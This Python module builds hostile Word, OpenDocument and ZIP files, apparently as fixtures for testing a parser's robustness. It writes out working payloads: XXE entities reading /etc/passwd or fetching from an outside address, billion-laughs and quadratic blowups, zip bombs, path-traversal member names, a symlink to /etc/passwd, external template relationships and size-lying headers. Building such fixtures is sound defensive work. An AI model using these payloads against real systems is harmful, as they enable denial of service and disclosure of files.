"""Hostile containers: Word files, OpenDocument texts and ZIP archives."""

from __future__ import annotations

import gzip
import io
import zipfile
from collections.abc import Iterator, Mapping

Files = Iterator[tuple[str, bytes]]

SENTENCE = "The Ministry shall open twelve service centres for migrant workers."
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_RELATION}/officeDocument" Target="word/document.xml"/>'
    "{}</Relationships>"
)
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)
)
ENTITIES = {
    "laughs": (_LAUGHS + "]>", "&a11;"),
    "file": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>", "&a;"),
    "address": ("<!DOCTYPE x [<!ENTITY a SYSTEM 'http://192.0.2.1/a'>]>", "&a;"),
    "parameter": ("<!DOCTYPE x [<!ENTITY % a SYSTEM 'http://192.0.2.1/a'> %a;]>", ""),
    "outside": ("<!DOCTYPE x SYSTEM 'http://192.0.2.1/x.dtd'>", ""),
    "unknown": ("", "&nothing;"),
    "quadratic": (f"<!DOCTYPE x [<!ENTITY a '{'ha' * 20_000}'>]>", "&a;" * 5_000),
}


def archive(members: Mapping[str, bytes | str], *, stored: bool = False) -> bytes:
    """Return a ZIP file of which each member has the same date."""
    buffer = io.BytesIO()
    method = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
    with zipfile.ZipFile(buffer, "w", method) as container:
        for name, data in members.items():
            container.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def word(
    body: str,
    members: Mapping[str, bytes | str] | None = None,
    *,
    before: str = "",
    relations: str = "",
) -> bytes:
    """Return a Word file with a body of raw XML."""
    document = f'{before}<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>'
    return archive(
        {
            "[Content_Types].xml": _TYPES,
            "_rels/.rels": _RELATIONS.format(relations),
            "word/document.xml": '<?xml version="1.0" encoding="UTF-8"?>' + document,
            **(members or {}),
        }
    )


def paragraph(text: str = SENTENCE) -> str:
    """Return a paragraph of a Word file."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def open_text(body: str, before: str = "", kind: str = "text") -> bytes:
    """Return an OpenDocument file with a body of raw XML."""
    names = " ".join(
        f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
        for short in ("office", "text", "table")
    )
    content = (
        f'<?xml version="1.0"?>{before}<office:document-content {names}><office:body>'
        f"<office:text>{body}</office:text></office:body></office:document-content>"
    )
    kind = f"application/vnd.oasis.opendocument.{kind}"
    return archive({"mimetype": kind, "content.xml": content}, stored=True)


def words() -> Files:
    """Word files: sound, cut, with entities, traversal, depth, missing and lying parts."""
    whole = word(paragraph())
    yield "sound.docx", whole
    for at in range(1, 9):
        yield f"cut-{at}.docx", whole[: at * len(whole) // 9]
    for name, (before, use) in ENTITIES.items():
        yield f"entity-{name}.docx", word(paragraph(use), before=before)
    for name, member in {
        "up": "../../../../tmp/evil.txt",
        "absolute": "/tmp/evil.txt",  # noqa: S108 (a name in a file, never opened)
        "windows": "C:\\evil.txt",
        "nul": "word/evil\0.xml",
    }.items():
        yield f"traversal-{name}.docx", word(paragraph(), {member: "evil"})
    outside = f'<Relationship Id="r2" Type="{_RELATION}/{{}}" Target="{{}}" TargetMode="External"/>'
    for name, kind, target in (
        ("template", "attachedTemplate", "http://192.0.2.1/x.dotm"),
        ("picture", "image", "file:///etc/passwd"),
        ("frame", "frame", "//192.0.2.1/share/x"),
    ):
        related = outside.format(kind, target)
        yield f"outside-{name}.docx", word(paragraph(), relations=related)
    yield "no-document.docx", archive({"[Content_Types].xml": _TYPES})
    yield "no-types.docx", archive({"word/document.xml": "<x/>"})
    yield "broken-xml.docx", word("<w:p><w:r>")
    yield "bytes-for-xml.docx", word("\x00\x01")
    deep = 3_000
    table = "<w:tbl><w:tr><w:tc>"
    close = "</w:tc></w:tr></w:tbl>"
    yield "deep-tables.docx", word(table * deep + paragraph() + close * deep)
    yield "deep-runs.docx", word("<w:p>" + "<w:ins>" * 50_000 + "</w:ins>" * 50_000 + "</w:p>")
    yield (
        "span-huge.docx",
        word(
            "<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val='99999999'/></w:tcPr>"
            f"{paragraph()}</w:tc></w:tr></w:tbl>"
        ),
    )
    yield (
        "level-huge.docx",
        word(
            "<w:p><w:pPr><w:numPr><w:ilvl w:val='99999999'/><w:numId w:val='-1'/></w:numPr></w:pPr>"
            f"<w:r><w:t>{SENTENCE}</w:t></w:r></w:p>"
        ),
    )
    yield "paragraphs.docx", word(paragraph("a") * 60_000)
    macro: dict[str, bytes | str] = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 99}
    yield "macro.docx", word(paragraph(), macro)


def containers() -> Files:
    """ZIP files and what is packed like one: bombs, lies, nesting, traversal, passwords."""
    zeros = bytes(1 << 27)  # bytes
    yield "bomb.zip", archive({f"{n}.txt": zeros for n in range(10)})
    yield "bomb.docx", word(paragraph(), {"word/media/x.xml": zeros})
    yield "bomb-lying.zip", _lying(archive({"a.txt": zeros}))
    inner = archive({"a.txt": SENTENCE})
    for _ in range(30):
        inner = archive({"inner.zip": inner})
    yield "nested.zip", inner
    yield "many.zip", archive({f"{n}.txt": "a" for n in range(6_000)})
    yield "same-name.zip", _twice()
    for name, member in {
        "up": "../../evil.txt",
        "absolute": "/etc/evil.txt",
        "nul": "a\0.txt",
    }.items():
        yield f"traversal-{name}.zip", archive({member: SENTENCE})
    yield "link.zip", _link()
    whole = bytearray(archive({"a.txt": SENTENCE}))
    yield "empty.zip", archive({})
    yield "cut.zip", bytes(whole[:-10])
    locked = whole.copy()
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        locked[locked.index(mark) + at] |= 1
    yield "locked.zip", bytes(locked)
    method = whole.copy()
    for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        method[method.index(mark) + at] = 99
    yield "method-unknown.zip", bytes(method)
    yield "sound.odt", open_text(f"<text:p>{SENTENCE}</text:p>")
    for name, (before, use) in ENTITIES.items():
        yield f"entity-{name}.odt", open_text(f"<text:p>{use}</text:p>", before)
    repeat = "table:number-columns-repeated='99999999' table:number-rows-spanned='99999999'"
    yield (
        "repeat-huge.odt",
        open_text(
            f"<table:table><table:table-row><table:table-cell {repeat}><text:p>a</text:p>"
            "</table:table-cell></table:table-row></table:table>"
        ),
    )
    yield "spaces-huge.odt", open_text("<text:p>a<text:s text:c='999999999'/>b</text:p>")
    yield "deep.odt", open_text("<text:section>" * 20_000 + "</text:section>" * 20_000)
    yield "calc.odt", open_text("", kind="spreadsheet")
    yield "text.gz", gzip.compress(SENTENCE.encode(), mtime=0)


def _lying(data: bytes) -> bytes:
    """Make the container declare one byte for a member that holds many."""
    out = bytearray(data)
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = out.rindex(mark) + at
        out[place : place + 4] = (1).to_bytes(4, "little")
    return bytes(out)


def _twice() -> bytes:
    one, two = archive({"aa.txt": "One shall."}), archive({"aa.txt": "Two shall."})
    return one + two


def _link() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as container:
        link = zipfile.ZipInfo("policy.txt", (2020, 1, 1, 0, 0, 0))
        link.create_system, link.external_attr = 3, 0o120777 << 16
        container.writestr(link, "/etc/passwd")
    return buffer.getvalue()


KINDS = {"words": words, "containers": containers}
